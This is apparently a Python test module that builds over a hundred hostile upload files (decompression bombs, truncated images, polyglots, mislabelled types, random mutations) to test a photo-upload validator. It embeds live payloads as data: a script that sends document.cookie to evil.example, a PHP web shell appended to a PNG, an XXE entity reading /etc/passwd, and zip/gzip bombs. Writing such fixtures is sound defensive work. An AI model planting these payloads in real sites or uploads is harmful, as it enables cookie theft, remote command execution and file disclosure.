"""Hostile uploads: decompression bombs, truncated files, polyglots, other file types, seeded mutations."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import numpy as np
import pillow_heif
from PIL import Image, ImageCms

from tests.pictures import jpeg, portrait

KINDS = ("JPEG", "PNG", "WEBP", "HEIF", "AVIF")
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


def encode(picture: Image.Image, kind: str, **options: object) -> bytes:
    """The picture as the bytes of a file of that kind."""
    out = io.BytesIO()
    if kind == "HEIF":
        pillow_heif.from_pillow(picture).save(out, **options)
    else:
        picture.save(out, kind, **options)
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *extra: bytes, rows: bytes | None = None) -> bytes:
    """A black PNG of any size, small as a file; `extra` chunks come before the pixels."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    if rows is None:
        packer, row = zlib.compressobj(9), bytes(1 + width * 3)
        rows = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(extra) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def animated(kind: str, frames: int = 2) -> bytes:
    """An animation of `frames` frames."""
    pictures = [Image.new("RGB", (64, 64), (number * 7 % 256, 40, 90)) for number in range(frames)]
    return encode(pictures[0], kind, save_all=True, append_images=pictures[1:], duration=100)


def zipped(content: bytes) -> bytes:
    """A ZIP archive with one file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("photo.jpg", content)
    return out.getvalue()


def with_header_size(content: bytes, width: int, height: int) -> bytes:
    """A JPEG whose frame header claims another size."""
    at = content.index(b"\xff\xc0")
    return content[: at + 5] + struct.pack(">HH", height, width) + content[at + 9 :]


def hostile_files() -> dict[str, bytes]:
    """More than a hundred files, by a name that describes each."""
    return {**_bombs(), **_truncated(), **_polyglots(), **_other_types(), **_unusual_photos()}


def _bombs() -> dict[str, bytes]:
    flat = Image.new("RGB", (9500, 9500), (120, 90, 60))
    photo = jpeg(portrait(1, False))
    text = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(64 << 20), 9))
    profile = chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(64 << 20), 9))
    return {
        "png of 169 MP": png(13_000, 13_000),
        "png of 1 x 60,000": png(1, 60_000),
        "png of 60,000 x 1": png(60_000, 1),
        "png that claims 2^31 pixels a side": png(2**31 - 1, 2**31 - 1, rows=b""),
        "png of 0 x 0": png(0, 0, rows=zlib.compress(b"")),
        "jpeg that claims 65,535 a side": with_header_size(photo, 65_535, 65_535),
        "jpeg that claims 49 MP": with_header_size(photo, 7_000, 7_000),
        "heic of 90 MP": encode(flat, "HEIF", quality=1, enc_params={"preset": "ultrafast"}),
        "avif of 90 MP": encode(flat, "AVIF", quality=1, speed=10),
        "webp of 90 MP": encode(flat, "WEBP", quality=1, method=0),
        "png with a text of 64 MB": png(64, 64, text),
        "png with a profile of 64 MB": png(64, 64, profile),
        "png with 20,000 chunks": png(64, 64, *[chunk(b"tEXt", b"a\0b")] * 20_000),
        "zip bomb": zipped(bytes(100 << 20)),
        "gzip bomb": gzip.compress(bytes(100 << 20)),
        "jpeg of 51 MP": encode(Image.new("RGB", (8500, 6000)), "JPEG"),
    }


def _truncated() -> dict[str, bytes]:
    files = {}
    for kind in KINDS:
        whole = encode(portrait(2, True), kind)
        for quarter in (1, 2, 3):
            files[f"{kind} cut at {quarter}/4"] = whole[: len(whole) * quarter // 4]
        files[f"{kind} without its last byte"] = whole[:-1]
        files[f"{kind} header alone"] = whole[:32]
        files[f"{kind} with zeros in the middle"] = whole[:200] + bytes(len(whole) - 400) + whole[-200:]
    return files | {"start and end of a jpeg": b"\xff\xd8\xff\xd9", "start of a jpeg": b"\xff\xd8"}


def _polyglots() -> dict[str, bytes]:
    photo, picture = jpeg(portrait(3, False)), encode(portrait(3, False), "PNG")
    return {
        "jpeg and zip": photo + zipped(SCRIPT),
        "jpeg and html": photo + SCRIPT,
        "jpeg with html in its comment": jpeg(portrait(4, False), comment=SCRIPT),
        "png and php": picture + b"<?php system($_GET[0]); ?>",
        "pdf and jpeg": b"%PDF-1.4\n" + photo,
        "gif and javascript": b"GIF89a=1;" + SCRIPT,
        "html and jpeg": SCRIPT + photo,
        "jpeg and jpeg": photo + jpeg(portrait(5, True)),
        "zip and jpeg": zipped(SCRIPT) + photo,
        "bmp and png": b"BM" + picture,
    }


def _other_types() -> dict[str, bytes]:
    small = portrait(6, False).resize((64, 48))
    svg = b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"
    entity = b"<?xml version='1.0'?><!DOCTYPE s [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>"
    kinds = ("GIF", "TIFF", "BMP", "ICO", "PPM", "PCX", "TGA", "JPEG2000", "SGI", "EPS", "PDF")
    return {f"{kind} named .jpg": encode(small, kind) for kind in kinds} | {
        "svg with a script": svg,
        "svg with an entity": entity,
        "zip": zipped(b"hello"),
        "mp4": b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(2000),
        "mov of a live photo": b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + bytes(2000),
        "webm": b"\x1aE\xdf\xa3" + bytes(2000),
        "avi": b"RIFF" + struct.pack("<I", 2000) + b"AVI " + bytes(2000),
        "text": b"hello, I am no picture",
        "html": b"<!doctype html><title>x</title>" + SCRIPT,
        "elf": b"\x7fELF" + bytes(500),
        "empty": b"",
        "one byte": b"\xff",
        "zeros": bytes(10_000),
        "ones": b"\xff" * 10_000,
        "noise": np.random.default_rng(0).bytes(50_000),
        "animated gif": animated("GIF"),
        "animated webp": animated("WEBP"),
        "animated png": animated("PNG"),
        "animated avif": animated("AVIF"),
        "webp of 300 frames": animated("WEBP", 300),
        "webp without a frame": b"RIFF" + struct.pack("<I", 32) + b"WEBPVP8X" + struct.pack("<I", 10)
        + b"\x02\0\0\0" + b"\x3f\0\0\x3f\0\0" + b"ANIM" + struct.pack("<I", 6) + bytes(6),
        "heic without an item": b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + b"\0\0\0\x0cmeta\0\0\0\0",
        "gif without a frame": b"GIF89a\x40\0\x40\0\x80\0\0\0\0\0\xff\xff\xff;",
    }  # fmt: skip


def _unusual_photos() -> dict[str, bytes]:
    """Valid but unusual photos; some of them are accepted."""
    picture = portrait(7, True)
    files = {f"{kind} of 1 x 1": encode(Image.new("RGB", (1, 1)), kind) for kind in KINDS}
    for orientation in (0, 3, 5, 6, 8, 9, 65_535):
        exif = Image.Exif()
        exif[0x0112] = orientation
        files[f"orientation {orientation}"] = jpeg(portrait(20 + orientation % 97, False), exif=exif)
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    broken = jpeg(portrait(8, False), exif=b"Exif\0\0II*\0\xff\xff\xff\xff" + bytes(20))
    return files | {
        "broken exif": broken,
        "broken profile": jpeg(portrait(9, False), icc_profile=profile[:100] + bytes(400)),
        "lab profile on rgb": jpeg(
            portrait(10, False),
            icc_profile=ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes(),
        ),
        "cmyk": encode(picture.convert("CMYK"), "JPEG"),
        "one bit": encode(picture.convert("1"), "PNG"),
        "palette with holes": encode(picture.convert("P"), "PNG", transparency=3),
        "progressive": jpeg(portrait(11, False), progressive=True),
        "42 MP": encode(Image.new("RGB", (7000, 6000), (90, 120, 30)), "JPEG"),
        "32 x 60,000": encode(Image.new("RGB", (32, 60_000)), "PNG"),
    }


def mutations(count: int, seed: int = 20260802) -> Iterator[bytes]:
    """Photos of every kind, each with one to three random faults; the same ones for the same seed."""
    rng = np.random.default_rng(seed)
    small = portrait(12, False).resize((240, 180))
    exif = Image.Exif()
    exif[0x010E], exif[0x0112] = "A", 6
    whole = [encode(small, kind) for kind in KINDS]
    whole += [jpeg(small, progressive=True), jpeg(small, exif=exif), encode(small.convert("P"), "PNG")]
    for number in range(count):
        content = bytearray(whole[number % len(whole)])
        for _ in range(int(rng.integers(1, 4))):
            _mutate(content, rng, whole)
        yield bytes(content)


def _mutate(content: bytearray, rng: np.random.Generator, others: list[bytes]) -> None:
    """Flip a bit, overwrite, delete, repeat or splice; half of the time in the first 200 bytes."""
    reach = min(200, len(content)) if rng.random() < 0.5 else len(content)
    at, length = int(rng.integers(0, max(1, reach))), int(rng.integers(1, 64))
    kind = int(rng.integers(0, 6))
    if kind == 0 and content:
        content[at] ^= 1 << int(rng.integers(0, 8))
    elif kind == 1:
        content[at : at + length] = rng.bytes(length)
    elif kind == 2:
        del content[at : at + length]
    elif kind == 3:
        content[at:at] = content[at : at + length]
    elif kind == 4:
        content[at : at + 4] = struct.pack(
            ">I", int(rng.choice([0, 1, 0x7FFF, 0xFFFF, 2**31 - 1, 2**32 - 1]))
        )
    else:
        other = others[int(rng.integers(0, len(others)))]
        content[at:] = other[min(at, len(other)) :]


REFUSED_FILES = {
    "text named .jpg": (b"hello, I am no picture", "not a photo"),
    "empty": (b"", "empty"),
    "truncated jpeg": (jpeg(portrait(1, False))[:9000], "damaged or incomplete"),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", "SVG"),
    "animated gif": (animated("GIF"), "GIF"),
    "animated webp": (animated("WEBP"), "animation"),
    "animated png": (animated("PNG"), "animation"),
    "video": (b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(2000), "video"),
    "pdf": (b"%PDF-1.7 " + bytes(100), "PDF"),
}
"""Files that are refused at once, each with words of the message that says why."""
